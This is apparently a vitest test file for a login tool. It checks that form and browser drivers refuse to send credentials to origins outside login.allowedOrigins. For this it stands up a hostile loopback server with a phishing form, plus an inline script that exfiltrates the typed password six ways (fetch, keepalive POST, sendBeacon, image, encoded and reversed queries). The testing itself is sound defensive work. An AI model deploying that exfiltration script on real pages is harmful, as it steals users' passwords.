/**
 * Credentials go only to the issuer's origin or to origins the target lists (login.allowedOrigins).
 * Two loopback servers on different ports are two origins: the IdP, and a hostile one that records
 * every request it gets. The IdP's /authorize redirects to the hostile origin's password form, or shows
 * a form whose action is the hostile origin; the form and browser drivers must stop with
 * LOGIN_FOREIGN_ORIGIN naming it, and the hostile server must never see the password.
 */
import { existsSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_CHROMIUM } from './drivers/login/browser.ts';
import { browserLogin } from './drivers/login/browser.ts';
import { formLogin } from './drivers/login/form.ts';
import { LoginError } from './errors.ts';
import { createHttp } from './http.ts';
import { Recorder } from './record.ts';

const PASSWORD = 'hunter2-Pa55word';
const USERNAME = 'qa-user';
const REDIRECT_URI = 'no.example.mobile:/cb';
const STATE = 'st-42';

interface Loopback {
  url: string;
  server: Server;
  /** Every request: method, URL and body. */
  got: string[];
  /** TCP connections accepted: a request that left the browser needs one, even one not read in full. */
  connections: number;
}

async function serve(handler: (req: IncomingMessage, body: string, res: ServerResponse) => void): Promise<Loopback> {
  const got: string[] = [];
  let connections = 0;
  const server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (d: string) => (body += d));
    req.on('end', () => {
      got.push(`${req.method} ${req.url}\n${body}`);
      handler(req, body, res);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const loopback: Loopback = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, got, connections };
  server.on('connection', () => loopback.connections++);
  return loopback;
}

const page = (res: ServerResponse, html: string) => {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  res.end(`<!doctype html><html><head><title>Sign in</title></head><body>${html}</body></html>`);
};
const passwordForm = (action: string) =>
  `<form method="post" action="${action}"><input name="username" id="username"><input type="password" name="password" id="password"><button type="submit" id="go">Sign in</button></form>`;

let evil: Loopback;
let idp: Loopback;
/** What /authorize does: set per test. */
let authorize: (res: ServerResponse) => void;

beforeAll(async () => {
  evil = await serve((req, _body, res) => {
    // A phishing page that takes the password and then plays along, back to the redirect_uri with a code;
    // anything else it is sent gets an empty answer.
    if (req.method === 'POST' && req.url === '/steal') {
      res.writeHead(302, { location: `${REDIRECT_URI}?code=EVIL-CODE-123456&state=${STATE}` });
      res.end();
    } else if (req.url === '/login') page(res, passwordForm('/steal'));
    else res.writeHead(204).end();
  });
  idp = await serve((req, _body, res) => {
    if (req.url?.startsWith('/authorize')) authorize(res);
    else page(res, 'nothing here');
  });
});

afterAll(async () => {
  for (const s of [evil, idp]) await new Promise((r) => s?.server.close(r));
});

afterEach(() => {
  for (const s of [evil, idp]) {
    s.got.length = 0;
    s.connections = 0;
  }
});

/**
 * After the login returned (its browser closed: nothing more can leave it), lets the server accept any
 * connection already made (the kernel holds it until the event loop turns) and read what came on it.
 */
async function settled(): Promise<void> {
  for (let i = 0; i < 5; i++) await new Promise((r) => setImmediate(r));
}

const input = () => ({ authorizationUrl: `${idp.url}/authorize?client_id=c&state=${STATE}`, redirectUri: REDIRECT_URI, state: STATE });
const redirectToEvil = (res: ServerResponse) => {
  res.writeHead(302, { location: `${evil.url}/login` });
  res.end();
};
const formToEvil = (res: ServerResponse) => page(res, passwordForm(`${evil.url}/steal`));

async function refusal(p: Promise<unknown>): Promise<LoginError> {
  const e = await p.then(
    () => undefined,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(LoginError);
  return e as LoginError;
}

function http() {
  return createHttp({ requestTimeoutMs: 5_000, recorder: new Recorder() });
}

describe('form login: credentials only to allowed origins', () => {
  it('stops at a redirect from /authorize to another origin, naming it; that origin gets nothing', async () => {
    authorize = redirectToEvil;
    const e = await refusal(formLogin(http(), input(), { username: USERNAME, password: PASSWORD, issuer: idp.url }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(evil.url);
    expect(e.message).toContain('login.allowedOrigins');
    expect(evil.got).toEqual([]);
  });

  it('does not submit the password to a form whose action is another origin', async () => {
    authorize = formToEvil;
    const e = await refusal(formLogin(http(), input(), { username: USERNAME, password: PASSWORD, issuer: idp.url }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(`submit a form to ${evil.url}`);
    expect(evil.got).toEqual([]);
    expect(idp.got.join('\n')).not.toContain(PASSWORD);
  });

  it('goes to an origin the target lists in login.allowedOrigins', async () => {
    authorize = redirectToEvil;
    const result = await formLogin(http(), input(), { username: USERNAME, password: PASSWORD, issuer: idp.url, allowedOrigins: [evil.url] });
    expect(result.code).toBe('EVIL-CODE-123456');
    expect(evil.got.join('\n')).toContain(`password=${PASSWORD}`);
  });
});

// Generous: a browser may take long to start on a loaded machine (login.launchTimeoutMs, 60 s by default).
describe.skipIf(!existsSync(DEFAULT_CHROMIUM))('browser login: credentials only to allowed origins', { timeout: 120_000 }, () => {
  const steps = [{ fill: '#username', value: USERNAME }, { fill: '#password', value: PASSWORD }, { click: '#go' }];

  it('stops at a redirect from /authorize to another origin; that origin gets no request', async () => {
    authorize = redirectToEvil;
    const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(evil.url);
    expect(evil.got).toEqual([]);
  });

  it('blocks the submission of filled-in credentials to another origin', async () => {
    authorize = formToEvil;
    const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(evil.url);
    expect(evil.got).toEqual([]);
  });

  /**
   * A page whose button sends the password to the hostile origin six ways at once (Base64 and raw in a
   * query, a keepalive POST and a beacon that outlive the page, an image, and reversed: an encoding no
   * search can know), then, once all are sent, goes to the redirect_uri with a code.
   */
  const exfiltrating = (res: ServerResponse) =>
    page(
      res,
      `<input id="username"><input type="password" id="password"><button id="go">Sign in</button>
<script>
  document.getElementById('go').onclick = () => {
    const p = document.getElementById('password').value;
    const to = (path) => '${evil.url}' + path;
    const sent = [
      fetch(to('/x?p=' + encodeURIComponent(btoa(p))), { mode: 'no-cors' }),
      fetch(to('/y?p=' + encodeURIComponent(p)), { mode: 'no-cors' }),
      fetch(to('/k'), { method: 'POST', body: p, mode: 'no-cors', keepalive: true }),
      fetch(to('/r?p=' + encodeURIComponent([...p].reverse().join(''))), { mode: 'no-cors' }),
      new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = to('/i?p=' + encodeURIComponent(p)); }),
    ];
    navigator.sendBeacon(to('/b'), p);
    Promise.allSettled(sent).then(() => { location.href = '${REDIRECT_URI}?code=PAGE-CODE-123456&state=${STATE}'; });
  };
</script>`,
    );

  it('blocks every request of a script sending a filled-in value to another origin, even after the login ends', async () => {
    authorize = exfiltrating;
    const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(`send a request to ${evil.url}`);
    await settled();
    expect(evil.got).toEqual([]);
    expect(evil.connections).toBe(0);
  });

  it('(control) the same page, with the hostile origin allowed, does send all six', async () => {
    authorize = exfiltrating;
    const result = await browserLogin(http(), input(), { steps, issuer: idp.url, allowedOrigins: [evil.url], timeoutMs: 15_000 });
    expect(result.code).toBe('PAGE-CODE-123456');
    // The beacon is not awaited by the page: give the hostile server a bounded moment for it.
    for (let waited = 0; evil.got.length < 6 && waited < 5_000; waited += 50) await new Promise((r) => setTimeout(r, 50));
    expect(evil.got.map((r) => r.split(/[?\n]/)[0]).sort()).toEqual(['GET /i', 'GET /r', 'GET /x', 'GET /y', 'POST /b', 'POST /k']);
  });

  it('goes to an origin the target lists in login.allowedOrigins', async () => {
    authorize = redirectToEvil;
    const result = await browserLogin(http(), input(), { steps, issuer: idp.url, allowedOrigins: [evil.url], timeoutMs: 15_000 });
    expect(result.code).toBe('EVIL-CODE-123456');
    expect(evil.got.join('\n')).toContain(`password=${PASSWORD}`);
  });
});
